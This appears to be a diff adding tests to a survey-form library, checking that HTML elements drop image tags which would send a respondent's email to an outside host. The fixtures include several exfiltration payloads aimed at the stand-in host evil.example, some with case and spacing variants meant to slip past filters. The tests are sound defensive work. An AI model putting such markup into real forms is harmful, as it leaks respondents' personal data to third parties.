@@ -92,3 +92,25 @@ describe('acceptance 5: of a hostile theme only plain values stay', () => {
     (theme) => expect(readTheme(theme)).toBeUndefined(),
   );
 });
+
+describe('acceptance 5: an answer goes to nobody with a picture', () => {
+  const htmlOf = (html: unknown) =>
+    JSON.stringify(
+      readSurvey({ pages: [{ name: 'p', elements: [{ type: 'html', name: 'h', html }] }] }).json,
+    );
+
+  it.each([
+    '<img src="https://evil.example/{Email}">',
+    "<img src = 'https://evil.example/?{Email}'>",
+    '<img src=https://evil.example/{Email}>',
+    '<IMG SRC="https://evil.example/\n{Email}',
+  ])('of the markup %j', (markupWithPicture) => {
+    expect(htmlOf(`<p>Hello {First Name}</p>${markupWithPicture}`)).not.toContain('evil.example');
+    expect(htmlOf({ default: markupWithPicture, es: 'Hola {Email}' })).toContain('Hola {Email}');
+  });
+
+  it('keeps other pictures, and answers in texts', () => {
+    const kept = '<p>{Email}</p><img src="/map.png">';
+    expect(htmlOf(kept)).toContain(JSON.stringify(kept).slice(1, -1));
+  });
+});
